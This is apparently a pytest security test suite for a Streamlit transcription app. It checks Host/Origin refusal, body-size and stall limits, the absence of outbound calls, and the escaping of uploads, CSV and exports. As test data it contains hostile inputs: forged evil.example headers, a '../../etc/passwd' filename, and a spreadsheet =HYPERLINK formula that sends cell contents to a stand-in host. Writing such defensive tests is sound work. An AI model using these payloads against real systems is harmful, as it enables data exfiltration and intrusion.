"""What a hostile web page or caller can do to a running app, over real sockets: the UI's WebSocket
driven with Streamlit's own protobuf messages under a forged Host or a foreign Origin, the API with
forged headers and oversized, slow or odd requests. One app serves the module (stub backend, a
seeded data folder); tests that need other settings start their own."""

from __future__ import annotations

import io
import json
import re
import socket
import time

import httpx2
import psutil
import pytest
from hostile import Refused, StreamlitSocket, raw_request, read_response
from pagekit import seed_demo
from scribe_app import ScribeApp

MB = 1024 * 1024


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    data = tmp_path_factory.mktemp("sec") / "data"
    return data, seed_demo(data)


@pytest.fixture(scope="module")
def app(seeded, tmp_path_factory):
    data, _ = seeded
    server = ScribeApp(data, tmp_path_factory.mktemp("log") / "app.log", SCRIBE_MAX_UPLOAD_MB="2")
    yield server
    server.stop()


def _sessions_page(port: int, host: str = "127.0.0.1", origin: str | None = None) -> str:
    """What the Sessions page sends a socket opened under this Host and Origin."""
    with StreamlitSocket(port, host=host, origin=origin) as ui:
        ui.rerun("sessions")
        text = ui.read_until_finished(60)
        if "Weekly planning" not in text:  # the first run of a fresh session goes through app.py
            ui.rerun("sessions")
            text = ui.read_until_finished(60)
        return text


# -- 1. DNS rebinding and foreign origins --------------------------------------------------------
def test_the_ui_socket_serves_this_servers_own_pages(app, seeded):
    data, _ = seeded
    text = _sessions_page(app.port, origin=app.url)
    assert "Weekly planning" in text  # the control: the same socket under the right names works


@pytest.mark.parametrize("host, origin", [
    ("evil.example", "http://evil.example:{port}"),  # DNS rebinding: the page's own name in Host
    ("evil.example", None),
    ("127.0.0.1", "http://localhost:9999"),  # a page on another port of this machine
    ("127.0.0.1", "http://127.0.0.1:{other}"),
    ("127.0.0.1", "null"),  # a sandboxed frame or a file:// page
])
def test_the_ui_socket_refuses_a_foreign_host_or_origin(app, host, origin):
    origin = origin and origin.format(port=app.port, other=app.port + 1)
    with pytest.raises(Refused):
        _sessions_page(app.port, host=host, origin=origin)


@pytest.mark.parametrize("headers", [
    {"Host": "evil.example:{port}", "Origin": "http://evil.example:{port}"},
    {"Host": "evil.example:{port}"},
    {"Origin": "http://localhost:9999"},
    {"Origin": "http://127.0.0.1:{other}"},
    {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"},  # <img src> from another port
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"},
])
def test_the_api_refuses_a_foreign_host_or_origin(app, headers):
    headers = {k: v.format(port=app.port, other=app.port + 1) for k, v in headers.items()}
    for method, path in (("GET", "/api/sessions"), ("GET", "/api/health"), ("DELETE", "/api/sessions/x")):
        answer = httpx2.request(method, f"{app.url}{path}", headers=headers, timeout=30)
        assert answer.status_code == 403, (method, path, headers, answer.text)
        assert "Weekly planning" not in answer.text


def test_the_api_serves_its_own_pages_and_programs(app):
    same = {"Origin": app.url, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
    assert httpx2.get(f"{app.url}/api/sessions", headers=same, timeout=30).status_code == 200
    assert httpx2.get(f"{app.url}/api/sessions", timeout=30).status_code == 200
    assert httpx2.get(f"http://localhost:{app.port}/api/sessions", timeout=30).status_code == 200


def test_a_team_deployment_answers_its_public_name(tmp_path):
    """SCRIBE_PUBLIC_URL names the server: that Host and Origin are served (as a reverse proxy at
    that address passes them on), others are not."""
    server = ScribeApp(tmp_path / "data", tmp_path / "app.log", SCRIBE_PUBLIC_URL="https://scribe.team.example",
                       SCRIBE_API_TOKEN="a-long-enough-test-token")
    try:
        with StreamlitSocket(server.port, host="scribe.team.example:443",
                             origin="https://scribe.team.example") as ui:
            ui.rerun("")
            assert ui.read_until_finished(60)
        with pytest.raises(Refused):
            StreamlitSocket(server.port, host="other.example", origin="http://other.example")
        token = {"Authorization": "Bearer a-long-enough-test-token"}
        good = httpx2.get(f"{server.url}/api/health", headers={**token, "Host": "scribe.team.example"})
        assert good.status_code == 200
        bad = httpx2.get(f"{server.url}/api/health", headers={**token, "Host": "other.example"})
        assert bad.status_code == 403 and "SCRIBE_PUBLIC_URL" in bad.json()["error"]
    finally:
        server.stop()


# -- 3. no body is read before the access check; every body is bounded ---------------------------
def _rss(app: ScribeApp) -> int:
    return psutil.Process(app.proc.pid).memory_info().rss


@pytest.mark.parametrize("content_type, origin", [("application/json", None),
                                                   ("text/plain", "http://evil.example")])
def test_a_body_without_access_is_not_read(tmp_path, content_type, origin):
    """With a token set and none sent, a 200 MB body is answered 401/403 before it is read."""
    server = ScribeApp(tmp_path / "data", tmp_path / "app.log", SCRIBE_API_TOKEN="a-long-enough-test-token")
    try:
        before = _rss(server)
        size = 200 * MB
        head = (f"PATCH /api/sessions/x HTTP/1.1\r\nHost: 127.0.0.1:{server.port}\r\n"
                f"Content-Type: {content_type}\r\nTransfer-Encoding: chunked\r\n"
                + (f"Origin: {origin}\r\n" if origin else "") + "\r\n")
        status, sent = _send_chunked(server.port, head, size)
        grown = _rss(server) - before
        assert status in (401, 403), status
        assert grown < 60 * MB, f"RSS grew {grown / MB:.0f} MB for a refused {size // MB} MB body"
    finally:
        server.stop()


def _send_chunked(port: int, head: str, size: int, piece: int = MB) -> tuple[int, int]:
    """`head` with `Transfer-Encoding: chunked`, then `size` bytes of JSON-ish body in chunks."""
    payload = b"[" + b"1," * (piece // 2 - 1) + b"1"
    frame = f"{len(payload):x}\r\n".encode() + payload + b"\r\n"
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
        sock.sendall(head.encode())
        try:
            while sent < size:
                sock.sendall(frame)
                sent += len(payload)
            sock.sendall(b"0\r\n\r\n")
        except OSError:
            pass
        status, _ = read_response(sock)
    return status, sent


def test_every_json_body_is_capped(app):
    """A caller with access still cannot make the process hold a huge JSON body."""
    before = _rss(app)
    head = (f"PATCH /api/sessions/x HTTP/1.1\r\nHost: 127.0.0.1:{app.port}\r\n"
            "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
    status, _ = _send_chunked(app.port, head, 100 * MB)
    assert status == 413
    assert _rss(app) - before < 60 * MB
    declared = (f"POST /api/lab/runs HTTP/1.1\r\nHost: 127.0.0.1:{app.port}\r\n"
                f"Content-Type: application/json\r\nContent-Length: {50 * MB}\r\n\r\n").encode()
    status, _ = raw_request(app.port, declared)
    assert status == 413
    small = httpx2.patch(f"{app.url}/api/sessions/nope", json={"title": "x"}, timeout=30)
    assert small.status_code == 404


def test_a_stalled_body_is_answered_not_held(app):
    """A body that stops arriving gets 408 after the idle limit instead of holding a worker."""
    import scribe.api

    head = (f"PATCH /api/sessions/x HTTP/1.1\r\nHost: 127.0.0.1:{app.port}\r\n"
            "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"title\": ").encode()
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", app.port), timeout=scribe.api.BODY_IDLE_SECONDS + 30) as sock:
        sock.sendall(head)
        status, data = read_response(sock)
    assert status == 408, data
    assert time.monotonic() - started < scribe.api.BODY_IDLE_SECONDS + 10
    assert json.loads(data.split(b"\r\n\r\n", 1)[1] or b"{}").get("error")


# -- 2. the Runtime is the process's: no client message rebuilds it ------------------------------
def test_clear_cache_from_a_client_does_not_build_a_second_runtime(tmp_path):
    """Streamlit's `clear_cache` message (any page may send it) must not split the process: the
    session being transcribed keeps its one queue, nothing is marked interrupted or queued twice."""
    import numpy as np
    from audio_files import encode

    server = ScribeApp(tmp_path / "data", tmp_path / "app.log", SCRIBE_STUB_LATENCY="0.3-0.3")
    try:
        t = np.arange(30 * 16_000) / 16_000
        wav = encode((0.3 * np.sin(2 * np.pi * 220 * t)).astype(np.float32), tmp_path / "long.wav")
        with open(wav, "rb") as handle:
            made = httpx2.post(f"{server.url}/api/transcriptions", files={"file": ("long.wav", handle)},
                               data={"chunk_seconds": "1", "policy": "fixed"}, timeout=60)
        assert made.status_code == 202, made.text
        session = made.json()["session_id"]
        with StreamlitSocket(server.port, origin=server.url) as ui:
            ui.rerun("sessions")
            ui.read_until_finished(60)
            ui.clear_cache()
            ui.rerun("sessions")
            ui.read_until_finished(60)
            ui.rerun("record")
            ui.read_until_finished(60)
        depth = httpx2.get(f"{server.url}/api/health", timeout=30).json()["queue"]["depth"]
        assert depth <= 30
        assert "runtime 2 in this process" not in server.log()
        assert "start-up recovery" not in server.log()
        row = httpx2.get(f"{server.url}/api/sessions/{session}", timeout=30).json()
        assert row["status"] != "interrupted"
    finally:
        server.stop()


# -- 4 and 9. nothing leaves the machine: no address lookup on a request, no telemetry ------------
def test_no_outbound_connection_during_handshakes_and_a_transcription(tmp_path, meeting):
    """With every proxy variable pointing at a local sink, a foreign-origin WebSocket handshake
    (Streamlit would look up this machine's external address) and a whole transcription with
    the local backend and the speech check (onnxruntime would send telemetry) attempt nothing.
    (The app is started without the telemetry switch this test process inherited from scribe.)"""
    from hostile import ProxySink

    sink = ProxySink()
    proxies = {name: sink.url for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy")}
    server = ScribeApp(tmp_path / "data", tmp_path / "app.log", stub=False, SCRIBE_DIARIZATION="false",
                       NO_PROXY="", no_proxy="", ORT_DISABLE_TELEMETRY="", **proxies)
    try:
        for origin in ("http://evil.example", f"http://192.0.2.1:{server.port}"):
            started = time.monotonic()
            with pytest.raises(Refused):
                StreamlitSocket(server.port, origin=origin)
            assert time.monotonic() - started < 1.0
        path, _ = meeting
        with open(path, "rb") as handle:
            made = httpx2.post(f"{server.url}/api/transcriptions", files={"file": ("meeting.wav", handle)},
                               timeout=120)
        assert made.status_code == 202, made.text
        url = f"{server.url}/api/sessions/{made.json()['session_id']}"
        deadline = time.monotonic() + 300
        while httpx2.get(url, timeout=30).json()["status"] != "done":
            assert time.monotonic() < deadline, "the transcription did not finish"
            time.sleep(1)
        time.sleep(3)  # onnxruntime's uploader sends within seconds of a session loading
        assert sink.attempts == [], sink.attempts
    finally:
        server.stop()
        sink.stop()


# -- 5 and 8. uploads: the same limits as the pages and the CLI ----------------------------------
def _silence(path, seconds: float, rate: int = 8000):
    """`seconds` of silence in the format `path`'s suffix names (FLAC: a few KB per hour)."""
    import av
    import numpy as np

    with av.open(str(path), "w") as container:
        stream = container.add_stream("flac" if path.suffix == ".flac" else "pcm_s16le", rate=rate)
        stream.layout = "mono"
        block = np.zeros((1, rate * 60), dtype=np.int16)
        for minute in range(int(seconds // 60)):
            frame = av.AudioFrame.from_ndarray(block, format="s16", layout="mono")
            frame.sample_rate, frame.pts = rate, minute * rate * 60
            for packet in stream.encode(frame):
                container.mux(packet)
        for packet in stream.encode(None):
            container.mux(packet)
    return path


def _without_length(path):
    """The FLAC with its STREAMINFO total-samples field zeroed: "length unknown", which is legal."""
    data = bytearray(path.read_bytes())
    data[8 + 13] &= 0xF0
    data[8 + 14:8 + 18] = bytes(4)
    path.write_bytes(bytes(data))
    return path


def _upload(app: ScribeApp, path, **fields: str) -> httpx2.Response:
    with open(path, "rb") as handle:
        return httpx2.post(f"{app.url}/api/transcriptions", files={"file": (path.name, handle)}, data=fields,
                           timeout=120)


def _session_count(app: ScribeApp) -> int:
    return httpx2.get(f"{app.url}/api/sessions", timeout=30).json()["total"]


@pytest.fixture(scope="module")
def short_app(tmp_path_factory):
    """An app whose SCRIBE_MAX_AUDIO_HOURS is 0.02 (72 s)."""
    root = tmp_path_factory.mktemp("short")
    server = ScribeApp(root / "data", root / "app.log", SCRIBE_MAX_AUDIO_HOURS="0.02")
    yield server
    server.stop()


def test_the_api_applies_scribe_max_audio_hours(short_app, tmp_path):
    before = _session_count(short_app)
    answer = _upload(short_app, _silence(tmp_path / "two-minutes.wav", 120))
    assert answer.status_code == 400 and "SCRIBE_MAX_AUDIO_HOURS" in answer.json()["error"], answer.text
    assert _session_count(short_app) == before


def test_a_flac_without_a_stated_length_is_measured_before_anything_is_stored(short_app, tmp_path):
    path = _without_length(_silence(tmp_path / "no-length.flac", 180))
    before = _session_count(short_app)
    answer = _upload(short_app, path, chunk_seconds="5", policy="fixed")
    assert answer.status_code == 400 and "SCRIBE_MAX_AUDIO_HOURS" in answer.json()["error"], answer.text
    assert _session_count(short_app) == before
    assert "no-length" not in short_app.log().split("refused")[0] or "chunks" not in short_app.log()


def test_policy_whole_does_not_hold_an_hour_in_memory(app, tmp_path):
    path = _silence(tmp_path / "hour.flac", 3600)
    before, sessions = _rss(app), _session_count(app)
    answer = _upload(app, path, policy="whole")
    assert answer.status_code == 400 and "whole" in answer.json()["error"], answer.text
    assert _rss(app) - before < 100 * MB
    assert _session_count(app) == sessions


def test_titles_are_one_short_line(app, tmp_path):
    wav = _silence(tmp_path / "minute.wav", 60)
    long = _upload(app, wav, title="x" * 5000)
    assert long.status_code == 400 and "200 characters" in long.json()["error"]
    made = _upload(app, wav, title="# Heading\n[link](http://evil.example)\x00\tend")
    assert made.status_code == 202, made.text
    assert made.json()["title"] == "# Heading [link](http://evil.example) end"
    renamed = httpx2.patch(f"{app.url}/api/sessions/{made.json()['session_id']}",  # a lone surrogate
                           content=json.dumps({"title": "a\ud800b\nc"}).encode(),
                           headers={"Content-Type": "application/json"}, timeout=30)
    assert renamed.status_code == 200 and renamed.json()["title"] == "a\ufffdb c"


@pytest.mark.parametrize("model", ["/etc", "/no/such/folder", "../models/tiny.en", "tiny.en/", "x" * 500])
def test_a_model_is_chosen_by_registry_name_only(app, tmp_path, model):
    answer = _upload(app, _silence(tmp_path / "minute.wav", 60), backend="local", model=model)
    assert answer.status_code == 400, answer.text
    error = answer.json()["error"]
    assert "cannot be chosen" in error and "exist" not in error
    assert "runtime 2 in this process" not in app.log()


@pytest.mark.parametrize("name", ["..", ".", "a\x00b.wav", "x" * 600 + ".wav", "../../etc/passwd", "dir/\u202e.wav"])
def test_odd_upload_names_are_not_a_server_error(app, tmp_path, name):
    body = (b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name.encode("utf-8", "surrogatepass")
            + b"\"\r\nContent-Type: audio/wav\r\n\r\n" + _silence(tmp_path / "m.wav", 60).read_bytes()
            + b"\r\n--b--\r\n")
    head = (f"POST /api/transcriptions HTTP/1.1\r\nHost: 127.0.0.1:{app.port}\r\n"
            f"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: {len(body)}\r\n\r\n").encode()
    status, data = raw_request(app.port, head, body)
    assert status in (202, 400), data[:300]


# -- 10. odd inputs get a clear answer, never a 500 --------------------------------------------------
@pytest.mark.parametrize("method, path, body", [
    ("GET", "/api/sessions?offset=9223372036854775808", None),
    ("GET", "/api/sessions?offset=9223372036854775807", None),
    ("GET", "/api/search?q=budget&offset=9223372036854775807", None),
    ("GET", "/api/search?q=%ED%A0%80", None),
    ("GET", "/api/sessions?since=%ED%A0%80", None),
    ("POST", "/api/lab/runs", {"experiment": ["x"], "audio_label": {}, "audio_seconds": "many", "policy": 1,
                               "backend": None, "model": 2, "wer": "x", "chunks": 1.5, "mean_chunk_s": [],
                               "latency_s": {}, "processing_s": "1", "calls": -1, "cost_usd": "free",
                               "words_lost": 0, "words_duplicated": 0, "reference_words": 0,
                               "hypothesis": 0}),
    ("POST", "/api/lab/runs", [1, 2]),
    ("PATCH", "/api/sessions/x", ["not", "an", "object"]),
    ("POST", "/api/sessions/x/summary", "just a string"),
])
def test_odd_inputs_are_not_a_server_error(app, method, path, body):
    answer = httpx2.request(method, f"{app.url}{path}", json=body, timeout=30)
    assert answer.status_code < 500, (answer.status_code, answer.text)
    assert answer.json().get("error") or answer.status_code == 200


def test_each_server_error_is_logged_once(caplog):
    """An exception no handler takes is answered 500 and logged once with its traceback, and not
    raised on to the server, which would log it again. (In process: a real request cannot make
    the app fail on purpose.)"""
    import logging

    from starlette.testclient import TestClient

    from scribe.api import ApiContext, create_api

    def broken():
        raise RuntimeError("a bug")

    token = "a-long-enough-test-token"
    api = create_api(ApiContext(runtime=broken, runtime_for=lambda b, m: broken(), token=lambda: token))
    with caplog.at_level(logging.ERROR), TestClient(api, base_url="http://127.0.0.1") as client:
        answer = client.get("/health", headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 500 and answer.json() == {"error": "internal error (see the app's log)"}
    failures = [r for r in caplog.records if r.exc_info]
    assert len(failures) == 1 and "a bug" in str(failures[0].exc_info[1])


def test_health_does_not_tell_the_database_path(app, seeded):
    data, _ = seeded
    body = httpx2.get(f"{app.url}/api/health", timeout=30).json()
    assert str(data) not in json.dumps(body)


# -- 6. the Analytics CSV runs nothing in a spreadsheet ----------------------------------------------
def test_the_analytics_csv_neutralises_formulas(app, tmp_path):
    """A title that a spreadsheet would run (`=HYPERLINK(...)`, `+`, `-`, `@`) is written as text
    in the CSV the Analytics page offers: the file is fetched as the page's download button links it."""
    import csv
    import io
    import re

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    made = _upload(app, _silence(tmp_path / "minute.wav", 60), title=evil)
    assert made.status_code == 202, made.text
    url = f"{app.url}/api/sessions/{made.json()['session_id']}"
    deadline = time.monotonic() + 60
    while httpx2.get(url, timeout=30).json()["status"] != "done":
        assert time.monotonic() < deadline
        time.sleep(0.5)
    with StreamlitSocket(app.port, origin=app.url) as ui:
        ui.rerun("analytics")
        text = ui.read_until_finished(60)
        if ".csv" not in text:
            ui.rerun("analytics")
            text = ui.read_until_finished(60)
    url = re.search(r'url: "([^"]+)"', text[text.find("scribe-chunks.csv") - 2000:] if "scribe-chunks.csv" in text
                    else text)
    assert url, "no download link on the Analytics page"
    body = httpx2.get(f"{app.url}{url.group(1)}", timeout=30).text
    titles = {row["title"] for row in csv.DictReader(io.StringIO(body))}
    assert "'" + evil in titles and evil not in titles
    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)


# -- 7. exports: text stays text in every format ---------------------------------------------------
def test_the_markdown_export_keeps_a_title_as_text(app, tmp_path):
    """A title with newlines, a heading and a link is one escaped heading line in the .md."""
    made = _upload(app, _silence(tmp_path / "minute.wav", 60), title="Plan\n# Owned\n[x](http://evil.example)")
    assert made.status_code == 202, made.text
    md = httpx2.get(f"{app.url}/api/sessions/{made.json()['session_id']}/transcript?format=md", timeout=30).text
    assert md.startswith("# Plan # Owned \\[x\\](http://evil.example)\n")  # one line: `#` inside is text
    assert md.count("\n#") == 0 and not re.search(r"(?<!\\)\]\(", md)  # no live heading or link


def test_subtitles_keep_speaker_names_and_models_as_text():
    """Speaker names (people type them) and a model string cannot add cues, tags or Markdown: the
    VTT and SRT parse back to exactly the cues written, with the names as plain text. (The API
    serves these bytes as they are: tests/test_api.py compares them.)"""
    import srt
    import webvtt

    from scribe.core import SegmentRow, SessionRow
    from scribe.export import render

    evil = "Eve>\n\n00:00:09.000 --> 00:00:19.000\n<b>x</b></v"
    session = SessionRow(id="s1", title="t", source="upload", status="done", backend="local",
                         model="tiny.en\n# [x](http://evil.example)", chunk_seconds=5, chunk_policy="fixed",
                         created_at=0.0)
    segments = [SegmentRow("s1", 0, 0, 0, 4000, "hello --> there", speaker=evil),
                SegmentRow("s1", 1, 0, 5000, 9000, "second line", speaker="Bob")]
    vtt = render("vtt", session, segments)
    cues = webvtt.from_buffer(io.StringIO(vtt)).captions
    assert len(cues) == 2 and "<b>" not in vtt and vtt.count(" --> ") == 2
    subtitles = list(srt.parse(render("srt", session, segments)))
    assert len(subtitles) == 2 and subtitles[0].content.startswith("Eve>")
    md = render("md", session, segments)
    assert md.count("\n#") == 0 and not re.search(r"(?<!\\)\]\(", md)  # no live heading or link
